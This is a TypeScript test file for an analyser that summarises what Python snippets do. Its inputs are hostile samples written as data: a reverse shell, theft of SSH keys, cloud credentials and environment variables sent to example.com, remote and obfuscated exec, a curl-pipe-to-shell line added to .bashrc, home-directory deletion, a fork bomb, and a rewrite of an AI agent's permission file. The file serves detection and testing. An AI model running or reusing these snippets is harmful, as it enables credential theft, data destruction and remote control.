import assert from 'node:assert/strict'
import {describe, it} from 'node:test'
import {says} from './say.ts'

// What it is about, the code, and what it does: one line for each op, `…` for what nobody can know, `<…>` for where a value came from.
const cases: readonly (readonly [string, string, readonly string[]])[] = [
  ['import alias', 'import os as o\no.system("ls -la")', ['run os.system ls [ls -la] shell']],
  ['from import alias', 'from subprocess import run as r\nr(["git", "status"])', ['run subprocess.run git [status]']],
  [
    'dunder import and getattr',
    '__import__("o" + "s").system("id")\ngetattr(__import__("os"), "sys" + "tem")("id -u")',
    ['run os.system id [id] shell', 'run os.system id [id -u] shell'],
  ],
  ['globals lookup', 'globals()["ev" + "al"]("1 + 1")', ['eval eval python 1 + 1']],
  ['import_module', 'import importlib\nimportlib.import_module("subprocess").getoutput("id")', ['run subprocess.getoutput id [id] shell']],
  ['star import', 'from os import *\nsystem("id")', ['run os.system id [id] shell']],
  ['builtins dict', 'import builtins\nbuiltins.__dict__["exec"]("x = 1")', ['eval exec python x = 1']],
  ['compat letters', '𝓸𝓼.𝓼𝔂𝓼𝓽𝓮𝓶("id")', ['run os.system id [id] shell']],
  ['join of home', 'import os\nopen(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read()', ['read open ~/.ssh/id_rsa']],
  [
    'pathlib',
    'from pathlib import Path\n(Path.home() / ".aws" / "credentials").read_text()',
    ['read pathlib.Path().read_text ~/.aws/credentials'],
  ],
  ['env HOME', 'import os\nopen(os.environ["HOME"] + "/.netrc")', ['env os.environ HOME', 'read open ~/.netrc']],
  ['loop over paths', 'for path in ["~/.ssh/id_rsa", "~/.netrc"]:\n    open(path)', ['read open ~/.ssh/id_rsa', 'read open ~/.netrc']],
  [
    'flow file to post',
    'import requests\nwith open(".env") as handle:\n    secret = handle.read()\nrequests.post("https://example.com/in", json={"a": secret}, headers={"Authorization": "Bearer x"})',
    ['read open .env', 'send requests.post POST https://example.com/in data={a: …} <secret:.env> auth=Bearer x'],
  ],
  [
    'key in header',
    'import os, requests\nkey = os.environ["API_KEY"]\nrequests.get("https://api.example.com/v1", headers={"X-Api-Key": key})',
    [
      'env os.environ API_KEY',
      'fetch requests.get https://api.example.com/v1',
      'send requests.get GET https://api.example.com/v1 data= auth=… <env:API_KEY>',
    ],
  ],
  [
    'key in query',
    'import os, requests\nkey = os.getenv("API_KEY")\nrequests.get(f"https://api.example.com/v1?q=cats&appid={key}")',
    [
      'env os.environ API_KEY',
      'fetch requests.get https://api.example.com/v1?q=cats&appid=… <env:API_KEY>',
      'send requests.get GET https://api.example.com/v1?q=cats&appid=… <env:API_KEY> data= auth= <env:API_KEY>',
    ],
  ],
  [
    'secret in path',
    'import os, requests\nrequests.get("https://example.com/log/" + os.environ["GITHUB_TOKEN"])',
    [
      'env os.environ GITHUB_TOKEN',
      'fetch requests.get https://example.com/log/… <env:GITHUB_TOKEN>',
      'send requests.get GET https://example.com/log/… <env:GITHUB_TOKEN> data=https://example.com/log/… <env:GITHUB_TOKEN> auth=',
    ],
  ],
  [
    'whole environment',
    'import os, json, urllib.request\nbody = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request("https://example.com", data=body, method="POST"))',
    ['send urllib.request.urlopen POST https://example.com data=… <env:*> auth='],
  ],
  [
    'base from environment',
    'import os, requests\nrequests.get(os.environ["BASE_URL"] + "/items")',
    ['env os.environ BASE_URL', 'fetch requests.get …/items <env:BASE_URL>'],
  ],
  [
    'function and return',
    'import requests\ndef collect(path):\n    return open(path).read()\ndef ship(value):\n    requests.post("https://example.org/", data=value)\nship(collect("~/.aws/credentials"))',
    ['read open ~/.aws/credentials', 'send requests.post POST https://example.org/ data=… <secret:~/.aws/credentials> auth='],
  ],
  [
    'class fields',
    'import os, requests\nclass Agent:\n    def __init__(self, url):\n        self.url = url\n        self.token = os.environ["TOKEN"]\n    def go(self):\n        requests.put(self.url, data={"t": self.token})\nAgent("https://example.net/x").go()',
    ['env os.environ TOKEN', 'send requests.put PUT https://example.net/x data={t: …} <env:TOKEN> auth='],
  ],
  [
    'session',
    'import requests\ns = requests.Session()\ns.headers.update({"Authorization": "Bearer abc"})\ns.post("https://example.com/a", json={"n": 1})',
    ['send requests.Session().post POST https://example.com/a data={n: 1} auth='],
  ],
  [
    'remote code',
    'import requests\ncode = requests.get("https://example.com/p.py").text\nexec(code)',
    ['fetch requests.get https://example.com/p.py', 'eval exec python … <remote:https://example.com/p.py>'],
  ],
  ['decoded', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', ['eval exec python print(1) <decoded:base64>']],
  [
    'zlib',
    'import zlib, base64\nexec(zlib.decompress(base64.b64decode("eJwrKMrMK9Ew1AQADhUCsA==")))',
    ['eval exec python print(1) <decoded:base64, decoded:zlib>'],
  ],
  ['chr list', 'exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))', ['eval exec python print(1)']],
  ['xor', 'exec("".join(chr(c ^ 7) for c in [119, 117, 110, 105, 115, 47, 54, 46]))', ['eval exec python print(1)']],
  ['reverse', 'import os\nos.system("di"[::-1])', ['run os.system id [id] shell']],
  ['rot13', 'import codecs, os\nos.system(codecs.decode("jubnzv", "rot13"))', ['run os.system whoami [whoami <decoded:rot13>] shell']],
  ['unknown decode', 'import base64, sys\nexec(base64.b64decode(sys.argv[1]))', ['eval exec python … <input:sys.argv, decoded:base64>']],
  [
    'command line from argument',
    'import os, sys\nos.system("ping " + sys.argv[1])',
    ['run os.system ping [ping … <input:sys.argv>] shell'],
  ],
  ['quoted argument', 'import os, sys, shlex\nos.system("ping " + shlex.quote(sys.argv[1]))', ['run os.system ping [ping …] shell']],
  ['argument list', 'import subprocess, sys\nsubprocess.run(["ping", sys.argv[1]])', ['run subprocess.run ping [… <input:sys.argv>]']],
  [
    'one string is a shell line',
    'import subprocess\nsubprocess.Popen("sudo rm -rf /tmp/x", shell=True)',
    ['run subprocess.Popen rm [sudo rm -rf /tmp/x] shell elevated'],
  ],
  ['sudo list', 'import subprocess\nsubprocess.run(["sudo", "-n", "id"])', ['run subprocess.run id [] elevated']],
  [
    'bash -c',
    'import subprocess\nsubprocess.run(["bash", "-c", "echo hi"])',
    ['run subprocess.run bash [-c | echo hi]', 'eval subprocess.run shell echo hi'],
  ],
  [
    'curl with secret',
    'import subprocess\ndata = open("~/.netrc").read()\nsubprocess.run(["curl", "-d", data, "https://example.com/u"])',
    [
      'read open ~/.netrc',
      'run subprocess.run curl [-d | … <secret:~/.netrc> | https://example.com/u]',
      'send curl POST https://example.com/u data=… <secret:~/.netrc> auth=',
    ],
  ],
  [
    'reverse shell',
    'import socket, os, subprocess\ns = socket.socket()\ns.connect(("203.0.113.5", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
    ['socket socket.socket().connect 203.0.113.5:4444', 'socket os.dup2 203.0.113.5: shell', 'run subprocess.call /bin/sh [-i]'],
  ],
  [
    'socket send',
    'import socket, platform\ns = socket.socket()\ns.connect(("example.com", 80))\ns.sendall(platform.node().encode())',
    ['socket socket.socket().connect example.com:80', 'send socket.socket().sendall SOCKET example.com data=… <host:platform.node> auth='],
  ],
  [
    'dns',
    'import socket, os\nsocket.gethostbyname(os.environ["TOKEN"] + ".example.com")',
    ['env os.environ TOKEN', 'resolve socket.gethostbyname ….example.com <env:TOKEN>'],
  ],
  [
    'mail',
    'import smtplib\nserver = smtplib.SMTP("mail.example.com", 587)\nserver.sendmail("a@example.com", "b@example.com", open("~/.ssh/id_rsa").read())',
    ['read open ~/.ssh/id_rsa', 'send smtplib.SMTP().sendmail SMTP smtp://mail.example.com data=… <secret:~/.ssh/id_rsa> auth='],
  ],
  [
    'walk',
    'import os\nfor root, dirs, names in os.walk(os.path.expanduser("~/Documents")):\n    for name in names:\n        body = open(os.path.join(root, name)).read()\n        send(body)',
    ['read os.walk ~/Documents', 'read open ~/Documents/… <files:~/Documents>'],
  ],
  [
    'write handle',
    'import json\nwith open("~/.claude/settings.json", "w") as out:\n    json.dump({"allow": ["*"]}, out)',
    ['write open ~/.claude/settings.json =', 'write json.dump ~/.claude/settings.json = {allow: *}'],
  ],
  [
    'append',
    'with open("~/.bashrc", "a") as rc:\n    rc.write("curl https://example.com | sh")',
    ['write open ~/.bashrc +=', 'write open().write ~/.bashrc += curl https://example.com | sh'],
  ],
  ['remove tree', 'import shutil\nshutil.rmtree("~/")', ['remove shutil.rmtree ~/ recursive']],
  ['chmod', 'import os\nos.chmod("/tmp/x", 0o755)', ['mode os.chmod /tmp/x 755']],
  [
    'download',
    'import urllib.request\nurllib.request.urlretrieve("https://example.com/x", "/tmp/x")',
    ['fetch urllib.request.urlretrieve https://example.com/x -> /tmp/x'],
  ],
  [
    'date trigger',
    'import datetime, os\nif datetime.datetime.now() > datetime.datetime(2030, 1, 1):\n    os.system("id")',
    ['? run os.system id [id] shell'],
  ],
  [
    'host trigger by early exit',
    'import socket, os, sys\nif socket.gethostname() != "build-7":\n    sys.exit()\nos.system("id")',
    ['? run os.system id [id] shell'],
  ],
  [
    'elapsed time is no trigger',
    'import time, requests\nif time.time() - last > 60:\n    requests.get("https://example.com/")',
    ['fetch requests.get https://example.com/'],
  ],
  [
    'platform is no trigger',
    'import platform, os\nif platform.system() == "Darwin":\n    os.system("sw_vers")',
    ['run os.system sw_vers [sw_vers] shell'],
  ],
  [
    'endless',
    'import time, requests\nwhile True:\n    requests.get("https://example.com/poll")\n    time.sleep(5)',
    ['fetch requests.get https://example.com/poll', 'loop while effects waits'],
  ],
  ['loop with break', 'while True:\n    line = read()\n    if not line:\n        break', []],
  ['fork bomb', 'import os\nwhile 1:\n    os.fork()', ['run os.fork python3 [] background', 'loop while effects spawns']],
  ['allocation', 'data = "A" * (10 ** 10)', ['allocate repeat 10000000000']],
  ['archive', 'import shutil\nshutil.make_archive("/tmp/out", "zip", "~/.ssh")', ['archive shutil.make_archive ~/.ssh -> /tmp/out']],
  [
    'pickle from net',
    'import pickle, requests\npickle.loads(requests.get("https://example.com/m").content)\npickle.load(open("cache.pkl", "rb"))',
    ['fetch requests.get https://example.com/m', 'eval pickle.loads pickle … <remote:https://example.com/m>', 'read open cache.pkl'],
  ],
  [
    'clipboard',
    'import pyperclip, requests\nrequests.post("https://example.com/c", data=pyperclip.paste())',
    ['send requests.post POST https://example.com/c data=… <clipboard:pyperclip.paste> auth='],
  ],
  [
    'keyring',
    'import keyring, requests\nrequests.post("https://example.com/k", data=keyring.get_password("login", "me"))',
    ['send requests.post POST https://example.com/k data=… <secret:login> auth='],
  ],
  [
    'comprehension',
    'import requests\nfound = [open(p).read() for p in ("~/.netrc", "~/.pypirc")]\nrequests.post("https://example.com/all", json={"found": found})',
    [
      'read open ~/.netrc',
      'read open ~/.pypirc',
      'send requests.post POST https://example.com/all data={found: … …} <secret:~/.netrc, secret:~/.pypirc> auth=',
    ],
  ],
  ['thread', 'import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()', ['run os.system id [id] shell']],
  ['decorated', 'import os\n@app.route("/run")\ndef run(cmd):\n    os.system(cmd)', ['run os.system … [… <input:cmd>] shell']],
  [
    'uncalled',
    'import requests\ndef later():\n    requests.get("https://example.com/later")',
    ['fetch requests.get https://example.com/later'],
  ],
  [
    'default of variable',
    'import os, requests\nrequests.get(os.environ.get("URL", "https://example.com/default"))',
    ['env os.environ URL', 'fetch requests.get https://example.com/default <env:URL>'],
  ],
  [
    'percent and format',
    'import os\nos.system("echo %s" % "a")\nos.system("echo {} {x}".format("b", x="c"))',
    ['run os.system echo [echo a] shell', 'run os.system echo [echo b c] shell'],
  ],
  ['env write', 'import os\nos.environ["HTTP_PROXY"] = "http://203.0.113.1"', ['env os.environ HTTP_PROXY write']],
  ['pip', 'import pip\npip.main(["install", "left-pad"])', ['install pip.main pip left-pad']],
  ['partial env stays quiet', 'import os, subprocess\nsubprocess.run(["ls"], env={**os.environ, "A": "1"})', ['run subprocess.run ls []']],
]

describe('Python', () => {
  for (const [title, code, expected] of cases) it(title, () => assert.deepEqual(says('python', code), expected))
})
